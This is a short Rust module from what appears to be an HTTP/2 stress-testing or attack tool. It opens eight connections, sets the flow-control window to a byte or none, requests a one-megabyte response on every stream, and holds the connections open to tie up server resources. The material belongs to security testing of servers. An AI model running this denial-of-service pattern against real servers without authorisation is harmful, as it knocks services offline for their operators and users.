//! Large responses on all the streams there may be, of which not a byte may be sent, or one.

use super::attacker::{Field, Hold};
use super::frames::{Block, Frames, Numbers, STREAMS};
use super::stage::ATTACKED;

const CONNECTIONS: u32 = 8;
pub(crate) const REQUESTS: u32 = CONNECTIONS * STREAMS as u32;

/// The setting `SETTINGS_INITIAL_WINDOW_SIZE`.
const INITIAL_WINDOW: u16 = 4;

/// Attacks with streams that may be sent so many bytes.
pub(crate) async fn run(field: &Field, window: u32) {
    let block = Block::get(ATTACKED, "/bytes/1000000");
    let mut frames = Frames::opening();
    frames.setting(INITIAL_WINDOW, window);
    let mut numbers = Numbers::default();
    for _ in 0..STREAMS {
        frames.request(numbers.one_more(), &block);
    }
    field.hold(Hold { connections: CONNECTIONS, opening: frames.bytes, ..Hold::default() }).await;
}
